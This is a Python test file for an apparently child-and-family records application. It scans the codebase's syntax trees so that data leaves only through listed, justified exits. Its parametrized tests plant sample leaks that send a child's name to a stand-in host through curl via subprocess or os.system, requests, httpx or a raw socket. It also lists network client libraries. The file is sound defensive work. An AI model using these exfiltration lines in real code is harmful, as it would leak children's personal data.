"""What may leave the house, by which way, and why: three literal tables, held against every view, module and command.

About a child something leaves by the gate of `hometime.sharing` alone. Any other way out stands here with the reason why
nothing about a family goes with it, or why whoever gets it may have it. What is not listed fails, and so does a line
for which there is nothing any more (F22, A2; TRUST 17, 50).
"""

from __future__ import annotations

import ast
from collections.abc import Collection, Iterator, Mapping
from pathlib import Path

import pytest

from hometime.access.checks import doors
from hometime.cli import COMMANDS
from hometime.config.environment import ROOT
from hometime.people.roles import Hat

OURS = "a page for whoever is signed in, by their own scope"
THE_GATE = "the gate: seven answers, and exactly what was written down with them"
A_BOOK = "the gate, asked again for each item: a decision once for the book, and the family's yes as it stands then"
# Calls that make something that is no page, or send it: what they are called, and what they may be called with.
ANSWERS = {"FileResponse", "StreamingHttpResponse", "JsonResponse"}
# What goes into the outbox: a notice by the key of one of the fixed sentences, which have no room for words of anybody's.
OUTBOX = {"queue", "Message"}
# Answers with words of their own in them: an empty one, which says nothing but its status, is none.
TEXTS = {
    "HttpResponse",
    "HttpResponseBadRequest",
    "HttpResponseForbidden",
    "HttpResponseNotFound",
    "HttpResponseServerError",
}
# Pages that are not drawn by `hometime.ui.pages.page`, which frames what a viewer may see.
RENDERS = {"render", "render_to_string", "TemplateResponse", "SimpleTemplateResponse", "direct_to_template"}
# Other programs, other machines, and files: of these all that are not reading.
PROGRAMS, PROGRAM_CALLS = (
    {"subprocess"},
    {"run", "Popen", "check_call", "check_output", "call", "system", "execv", "spawnv"},
)
OS_CALLS = {"system", "popen", "execv", "execve", "execvp", "spawnv", "posix_spawn"}
CLIENTS = {"requests", "httpx", "aiohttp", "ftplib", "paramiko", "telnetlib", "websockets", "boto3", "pycurl"}
CONNECTS = {"create_connection", "sendall", "urlretrieve", "HTTPSConnection", "request"}
WRITES = {"write_text", "write_bytes"}
SENDERS = {
    "EmailMessage",
    "EmailMultiAlternatives",
    "send_mail",
    "queue_account_mail",
    "mail_admins",
    "mail_managers",
    "send_mass_mail",
    "EmailAlternative",
    "urlopen",
    "HTTPConnection",
    "SMTP",
    "SMTP_SSL",
}
GATED = {"Sending", "Item", "PassedOn", "items_of", "page_of", "open_once", "BookPage", "BookItem", "in_book"}

BY_CODE = {
    # files and answers that are no page
    ("hometime/complaints/printing/views.py", "HttpResponse"): "the papers of a case, for those on it, scope by scope",
    (
        "hometime/childfile/views.py",
        "HttpResponse",
    ): "a parent's own copy of the file, of what they may see, into their own hand",
    (
        "hometime/families/views/sheets.py",
        "HttpResponse",
    ): "what is wrong in one's own spreadsheet, for whoever brought it",
    (
        "hometime/agencies/views/open_referral.py",
        "JsonResponse",
    ): "the setting's own public listing: no family stands in it",
    (
        "hometime/consents/views/staff.py",
        "HttpResponse",
    ): "the emergency card, for those who save a life with the child",
    (
        "hometime/schools/views/packs.py",
        "HttpResponse",
    ): "the parts of a parcel, each with its yes, that went through the gate",
    ("hometime/config/views.py", "HttpResponse"): "whether the house runs, and the words of an error: nobody's data",
    (
        "hometime/keypersons/views/home.py",
        "HttpResponse",
    ): "a voice from home, for those who may hear the child's own file",
    ("hometime/noticeboard/views.py", "HttpResponse"): "posters of the public board",
    (
        "hometime/records/papers/showing.py",
        "HttpResponse",
    ): "a page of a paper or a picture: for whoever sees its record, or for whom the gate let it through",
    (
        "hometime/together/views.py",
        "HttpResponse",
    ): "the list of an outing for the staff who lead it, printed at the door",
    ("hometime/together/views.py", "JsonResponse"): "head counts between the house and the staff's own tablet",
    # what sends
    ("hometime/notifications/mail.py", "EmailMessage"): "one of the fixed sentences, with a link at most",
    ("hometime/today/actions.py", "queue_account_mail"): "mails about somebody's own account",
    ("hometime/sharing/actions/sending.py", "queue_account_mail"): THE_GATE,
    ("hometime/cli/beside.py", "HTTPConnection"): "asks our own server whether it is up",
    ("hometime/cli/start.py", "HTTPConnection"): "asks our own server whether it is up",
    ("hometime/notifications/mail.py", "SMTP"): "the same: the setting's own mail server",
    ("hometime/notifications/mail.py", "SMTP_SSL"): "the same: the setting's own mail server",
    ("hometime/notifications/actions.py", "Message"): "the outbox itself: one of the fixed sentences",
    (
        "hometime/agencies/fetching.py",
        "create_connection",
    ): "asks a public directory; nothing of ours is in the question",
    ("hometime/agencies/fetching.py", "request"): "the same",
    ("hometime/cli/beside.py", "request"): "asks our own server whether it is up",
    ("hometime/cli/start.py", "request"): "asks our own server whether it is up",
    ("hometime/cli/benching/client.py", "create_connection"): "our own server, over a made-up world",
    ("hometime/cli/benching/client.py", "sendall"): "the same",
    # pages that `page` does not draw
    ("hometime/together/views.py", "render"): "the shell of the list on the staff's own tablet: nobody stands on it",
    **{
        (f"hometime/ui/{name}.py", way): "what draws the pages themselves, for whoever a gate let in"
        for name, way in (
            ("components", "render"),
            ("gallery", "render"),
            ("kept", "render"),
            ("pages", "render"),
            ("templatetags/ui", "render"),
            ("templatetags/ui", "render_to_string"),
            ("troubles", "render"),
        )
    },
    # files and other programs
    **{
        (f"hometime/cli/{name}.py", "a file"): "of the machine: a lock, a drawing or figures, of nobody"
        for name in ("__init__", "benching/serving", "benching/telling", "draw", "prepare", "start")
    },
    **{
        (f"hometime/cli/{name}.py", "subprocess"): "our own commands, on this machine"
        for name in ("bench", "benching/serving", "benching/sides", "beside", "place", "start")
    },
    ("hometime/config/backups.py", "a file"): "sealed to the two recovery keys",
    ("hometime/config/drills.py", "a file"): "a pipe to our own command, which tries a restore",
    ("hometime/config/drills.py", "subprocess"): "the same",
    (
        "hometime/kernel/bounded.py",
        "a file",
    ): "a pipe to our own child process, which reads one file and may do nothing else",
    ("hometime/kernel/bounded.py", "subprocess"): "the same",
    ("hometime/policies/reading/opening.py", "subprocess"): "the same: a policy is opened there",
    ("hometime/kernel/private.py", "a file"): "keys and settings of the house, readable for its own account alone",
    ("hometime/records/papers/vault.py", "a file"): "papers, each sealed with the house's own key",
    ("hometime/ui/words.py", "a file"): "catalogues of our own words",
    # the parts of the gate itself
    ("hometime/sharing/actions/deciding.py", "Item"): THE_GATE,
    ("hometime/sharing/actions/sending.py", "Sending"): THE_GATE,
    ("hometime/sharing/actions/sending.py", "PassedOn"): "what the family is told of it",
    ("hometime/sharing/actions/book_pages.py", "queue_account_mail"): A_BOOK,
    ("hometime/sharing/actions/book_pages.py", "BookPage"): A_BOOK,
    ("hometime/sharing/actions/book_items.py", "BookItem"): A_BOOK,
    (
        "hometime/sharing/views/between.py",
        "in_book",
    ): "the page of the other place, with link and code, while the yes stands",
    ("hometime/sharing/views/between.py", "page_of"): "the same",
    ("hometime/sharing/views/shares.py", "items_of"): "the paper that goes by hand, once it was decided",
    ("hometime/sharing/views/shared.py", "items_of"): "the page of the one it was decided for, with link and code",
    ("hometime/sharing/views/shared.py", "page_of"): "the same",
    ("hometime/sharing/views/shared.py", "open_once"): "the same",
}
NOTHING = "no family's data stands on it"
OWN_CASE = "whoever complained, with the reference and the code that they alone hold"
# Doors through which somebody comes who does not work here and is no parent of the child.
BY_DOOR = {
    **dict.fromkeys(
        ("healthz", "front", "help", "leave", "language", "board", "policy-text", "poster", "complaint-form"), NOTHING
    ),
    **dict.fromkeys(
        (
            "account_login", "mfa_login_webauthn", "mfa_authenticate", "practice-sign-in", "forgotten", "forgotten-sent",
            "new-password", "account_logout", "setup-you", "setup-practice",
        ),
        "signing in: one's own account and nothing else",
    ),
    **dict.fromkeys(
        ("tell", "tell-now", "tell-sent", "tell-service", "tell-urgent", "tell-step"), "it takes words in, and shows one's own"
    ),
    **dict.fromkeys(("follow", "follow-here", "follow-stop", "follow-act", "follow-paper"), OWN_CASE),
    **dict.fromkeys(("shared", "shared-have-it", "shared-leaf"), THE_GATE),
    **dict.fromkeys(("between", "between-read", "between-write"), A_BOOK),
    **dict.fromkeys(("outing-away", "outing-away-script"), "the shell of the list that the staff's own tablet unseals"),
    **dict.fromkeys(("today", "duty", "duty-done"), OURS),
    **dict.fromkeys(
        ("nearby", "nearby-one", "nearby-slip"), "help for families, read without a trace: no family stands on it"
    ),
    **dict.fromkeys(
        (
            "feed-root", "feed-service", "feed-services", "feed-place", "feed-places", "feed-taxonomy", "feed-taxonomies",
            "feed-term", "feed-terms",
        ),
        "the setting's own public listing: no family stands in it",
    ),
    "tablet": "a browser that is not enrolled: a code is asked for, and nothing shown",
    "visit-question": "one question to a professional about their own visit: no child is named",
    "paper-page": "a page of a paper, for whoever sees its record",
    **dict.fromkeys(("plan", "plan-tried"), "a professional whom the family and the SENCO put on the plan, while they are on it"),
}  # fmt: skip
# Commands of whoever runs the machine: what each leaves behind.
BY_COMMAND = {
    "backup": "sealed to the two recovery keys",
    "restore": "the same, back into the house",
    "start": "serves the house",
    "jobs": "the house's own work; its mails are fixed sentences",
    "doctor": "figures about the machine",
    "verify": "whether the records stand as they were written",
    "draw": "drawings of the code, without a database",
    "bench": "figures over a made-up world",
    "policy read": "a policy: public",
    "policy adopt": "a policy: public",
    "policy compare": "a policy: public",
    "practice load": "a made-up world",
    "practice list": "a made-up world",
    "complaint rehearse": "a made-up case",
    "schools import": "the national register of schools: public",
}


def ways(tree: ast.AST) -> Iterator[str]:
    """The ways out that a module uses, by name: each under the name that it has where it comes from."""
    meant, gate = {}, set()  # what a name of this module means, and the names that come from the gate
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            for alias in node.names:
                here = alias.asname or alias.name
                meant[here] = alias.name.rpartition(".")[2] if isinstance(node, ast.ImportFrom) else alias.name
                if (getattr(node, "module", "") or alias.name).startswith("hometime.sharing"):
                    gate.add(here.partition(".")[0])
                if (root := (getattr(node, "module", "") or alias.name).partition(".")[0]) in CLIENTS:
                    yield root
        elif isinstance(node, ast.Assign) and isinstance(node.value, ast.Name | ast.Attribute):
            # `answer = HttpResponse`: the other name means the same
            meant |= {each.id: _last(node.value) for each in node.targets if isinstance(each, ast.Name)}
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef):
            yield from (
                name for base in node.bases if (name := meant.get(_last(base), _last(base))) in ANSWERS | SENDERS
            )
        if isinstance(node, ast.Call):
            yield from _way(node, meant, gate)


def _last(node: ast.AST) -> str:
    """The last name of `a.b.c`."""
    return node.attr if isinstance(node, ast.Attribute) else getattr(node, "id", "")


def _first(node: ast.AST) -> str:
    """The first name of `a.b.c`."""
    return _first(node.value) if isinstance(node, ast.Attribute) else getattr(node, "id", "")


def _way(node: ast.Call, meant: Mapping[str, str], gate: Collection[str]) -> Iterator[str]:
    """The way out that one call is, if it is one."""
    here = _last(node.func)
    of = _last(node.func.value) if isinstance(node.func, ast.Attribute) else ""
    name = meant.get(here, here)
    module = meant.get(of, of)
    itself = (
        name in GATED and _first(node.func) in gate,
        name in OUTBOX and not (len(node.args) > 1 and ast.unparse(node.args[1]).startswith("Key.")),
        name in ANSWERS | SENDERS,
        name in TEXTS and _says_something(node),
        name in RENDERS and module in ("", "shortcuts", "loader"),
        name in CONNECTS and bool(of or here in meant),
    )
    if any(itself):
        yield name
    elif (
        module in PROGRAMS
        or (module == "os" and name in OS_CALLS)
        or (here in meant and name in PROGRAM_CALLS and not of)
    ):
        yield "subprocess"
    elif name in WRITES or (name in ("open", "fdopen") and _for_writing(node)):
        yield "a file"


def _says_something(node: ast.Call) -> bool:
    """Whether an answer has more to it than its status."""
    return bool(node.args) or any(word.arg != "status" for word in node.keywords)


def _for_writing(node: ast.Call) -> bool:
    """Whether `open` is called for writing: by a mode with one of the letters for it, or by one that is worked out."""
    modes = [word.value for word in node.keywords if word.arg in ("mode", "flags")]
    modes += [word for word in node.args[:2] if isinstance(word, ast.Constant) and isinstance(word.value, str)]
    if isinstance(node.func, ast.Name):
        modes += [word for word in node.args[1:2] if not isinstance(word, ast.Constant)]
    for mode in modes:
        said = mode.value if isinstance(mode, ast.Constant) else "w"
        if isinstance(said, str) and len(said) <= 4 and set(said) <= set("rwxabt+|U") and set(said) & set("wxa+"):
            return True
    named = " ".join(ast.unparse(word) for word in node.args[1:2])
    return any(flag in named for flag in ("O_WRONLY", "O_RDWR", "O_CREAT"))


def found(root: Path) -> set[tuple[str, str]]:
    """Every way out in the house, tests and migrations left out, as (file, name)."""
    return {
        (path.relative_to(root).as_posix(), name)
        for path in (root / "hometime").rglob("*.py")
        if not {"tests", "migrations"} & set(path.parts)
        for name in ways(ast.parse(path.read_text("utf-8")))
    }


def test_nothing_leaves_but_by_the_ways_that_are_listed() -> None:
    there = found(ROOT)
    assert sorted(there - BY_CODE.keys()) == [], "list it with the reason, or lead it through hometime.sharing"
    assert sorted(BY_CODE.keys() - there) == []


def test_every_door_for_somebody_from_outside_is_listed_with_what_it_may_show() -> None:
    outside = {door.name for door in doors() if door.gate.public or Hat.AGENCY in door.gate.hats}
    assert sorted(outside - BY_DOOR.keys()) == [], "say what somebody from outside may see there, and why"
    assert sorted(BY_DOOR.keys() - outside) == []


def test_every_command_is_listed_with_what_it_leaves_behind() -> None:
    there = {command.words for command in COMMANDS}
    assert (sorted(there - BY_COMMAND.keys()), sorted(BY_COMMAND.keys() - there)) == ([], [])


@pytest.mark.parametrize(
    "line",
    [
        "EmailMessage(body=child.name).send()",
        "HttpResponse(csv, content_type='text/csv')",
        "FileResponse(open('children.csv'))",
        "queue_account_mail(viewer, Key.SHARED, address='a@b.example', once=child.name)",
        "from hometime.sharing.models import Sending; Sending(decision=decision, way='link').save()",
        "urlopen('https://town.example/?' + child.name)",
        "HttpResponse(child.name)",
        "HttpResponse(content=child.name)",
        "HttpResponse(headers={'X-Child': child.name})",
        "HttpResponseNotFound(child.name)",
        "from django.http import HttpResponse as Page; Page(child.name)",
        "from django import http; http.HttpResponse(child.name)",
        "answer = HttpResponse; answer(child.name)",
        "StreamingHttpResponse(child.name for child in children)",
        "class Csv(StreamingHttpResponse): pass",
        "JsonResponse({'name': child.name})",
        "render(request, 'public.html', {'child': child})",
        "shortcuts.render(request, 'public.html', {'child': child})",
        "TemplateResponse(request, 'public.html', {'child': child})",
        "EmailMultiAlternatives(body=child.name).send()",
        "send_mail('Hello', child.name, None, ['a@b.example'])",
        "mail_admins('Hello', child.name)",
        "queue(viewer, child.name, person)",
        "from hometime.notifications.models import Message as Mail; Mail(once=child.name).save()",
        "from hometime.notifications.actions import queue_account_mail as tell; tell(viewer, key, once=child.name)",
        "from hometime.sharing import actions; actions.sending.items_of(sending)",
        "from hometime.sharing.actions.sending import items_of as those; those(sending)",
        "import hometime.sharing.actions.sending as s; s.items_of(sending)",
        "subprocess.run(['curl', child.name])",
        "import subprocess as sub; sub.Popen(['curl', child.name])",
        "from subprocess import run; run(['curl', child.name])",
        "from subprocess import check_output as said; said(['curl', child.name])",
        "import os; os.system('curl ' + child.name)",
        "open('children.csv', 'w').write(child.name)",
        "open('children.csv', mode='a').write(child.name)",
        "path.open('xb').write(child.name)",
        "open(path, how).write(child.name)",
        "os.open(path, os.O_WRONLY | os.O_CREAT)",
        "path.write_text(child.name)",
        "import socket; socket.create_connection(('town.example', 80)).sendall(child.name)",
        "from urllib.request import urlopen as fetch; fetch('https://town.example/?' + child.name)",
        "import requests; requests.post('https://town.example/', child.name)",
        "import httpx; httpx.get('https://town.example/' + child.name)",
    ],
)
def test_a_way_round_the_gate_is_found(line: str, tmp_path: Path) -> None:
    (tmp_path / "hometime").mkdir()
    (tmp_path / "hometime" / "planted.py").write_text(line, "utf-8")
    assert [file for file, _ in found(tmp_path) - BY_CODE.keys()] == ["hometime/planted.py"]
